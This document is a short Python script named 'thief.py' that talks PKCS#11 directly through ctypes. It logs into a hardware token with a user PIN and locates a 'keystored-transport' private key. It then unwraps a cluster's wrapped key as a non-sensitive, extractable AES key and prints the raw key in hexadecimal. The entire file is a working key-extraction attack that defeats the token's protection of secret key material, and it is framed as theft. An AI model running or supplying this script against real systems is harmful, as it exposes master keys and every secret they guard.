"""Somebody with a token's module, kmsuser's PIN and a wrapped copy of the cluster's wrapping key: unwraps it as a key that can
be read, and prints it in hexadecimal digits. Speaks PKCS#11 by itself.

usage: PIN=... thief.py MODULE TOKEN_LABEL WRAPPED_COPY
"""

import ctypes
import os
import sys
from ctypes import byref, c_byte, c_char_p, c_ubyte, c_ulong, c_void_p, cast, sizeof

CKF_SERIAL_SESSION, CKU_USER = 4, 1
CKO_PRIVATE_KEY, CKO_SECRET_KEY, CKK_AES = 3, 4, 0x1F
CKA_CLASS, CKA_TOKEN, CKA_LABEL, CKA_VALUE, CKA_KEY_TYPE = 0, 1, 3, 0x11, 0x100
CKA_SENSITIVE, CKA_EXTRACTABLE = 0x103, 0x162
CKM_RSA_PKCS_OAEP, CKM_SHA_1, CKG_MGF1_SHA1, CKZ_DATA_SPECIFIED = 9, 0x220, 1, 1
LABEL_AT, LABEL_BYTES = 0, 32


class Attribute(ctypes.Structure):
    _fields_ = [("type", c_ulong), ("value", c_void_p), ("length", c_ulong)]


class Oaep(ctypes.Structure):
    _fields_ = [("hash", c_ulong), ("mgf", c_ulong), ("source", c_ulong), ("data", c_void_p), ("length", c_ulong)]


class Mechanism(ctypes.Structure):
    _fields_ = [("mechanism", c_ulong), ("parameter", c_void_p), ("length", c_ulong)]


def template(*pairs):
    """Attributes; bytes are themselves, truth values one byte, numbers CK_ULONG."""
    kept = []
    for kind, value in pairs:
        if isinstance(value, bytes):
            value = ctypes.create_string_buffer(value, len(value))
        elif isinstance(value, bool):
            value = c_ubyte(value)
        else:
            value = c_ulong(value)
        kept.append((kind, value))
    attributes = (Attribute * len(kept))()
    for attribute, (kind, value) in zip(attributes, kept):
        attribute.type, attribute.value, attribute.length = kind, cast(byref(value), c_void_p), sizeof(value)
    attributes.kept = kept
    return attributes


def call(name, *arguments):
    code = getattr(module, name)(*arguments)
    if code:
        sys.exit(f"{name}: 0x{code:x}")


module = ctypes.CDLL(sys.argv[1])
wanted, blob, pin = sys.argv[2].encode(), open(sys.argv[3], "rb").read(), os.environ["PIN"].encode()
call("C_Initialize", None)
count = c_ulong()
call("C_GetSlotList", c_ubyte(1), None, byref(count))
slots = (c_ulong * count.value)()
call("C_GetSlotList", c_ubyte(1), slots, byref(count))
info = (c_byte * 4096)()
for slot in slots:
    call("C_GetTokenInfo", c_ulong(slot), info)
    if bytes(info)[LABEL_AT:LABEL_BYTES].rstrip() == wanted:
        break
else:
    sys.exit("no such token")
session = c_ulong()
call("C_OpenSession", c_ulong(slot), c_ulong(CKF_SERIAL_SESSION), None, None, byref(session))
call("C_Login", session, c_ulong(CKU_USER), c_char_p(pin), c_ulong(len(pin)))
search = template((CKA_CLASS, CKO_PRIVATE_KEY), (CKA_LABEL, b"keystored-transport"))
call("C_FindObjectsInit", session, search, c_ulong(len(search)))
private, found = c_ulong(), c_ulong()
call("C_FindObjects", session, byref(private), c_ulong(1), byref(found))
call("C_FindObjectsFinal", session)
if found.value != 1:
    sys.exit("no transport key")
oaep = Oaep(CKM_SHA_1, CKG_MGF1_SHA1, CKZ_DATA_SPECIFIED, None, 0)
mechanism = Mechanism(CKM_RSA_PKCS_OAEP, cast(byref(oaep), c_void_p), sizeof(oaep))
readable = template(
    (CKA_CLASS, CKO_SECRET_KEY), (CKA_KEY_TYPE, CKK_AES), (CKA_TOKEN, False), (CKA_SENSITIVE, False), (CKA_EXTRACTABLE, True)
)
stolen = c_ulong()
wrapped = ctypes.create_string_buffer(blob, len(blob))
call(
    "C_UnwrapKey", session, byref(mechanism), private, wrapped, c_ulong(len(blob)), readable, c_ulong(len(readable)), byref(stolen)
)
value = template((CKA_VALUE, bytes(64)))
call("C_GetAttributeValue", session, stolen, value, c_ulong(1))
print(ctypes.string_at(value[0].value, value[0].length).hex())
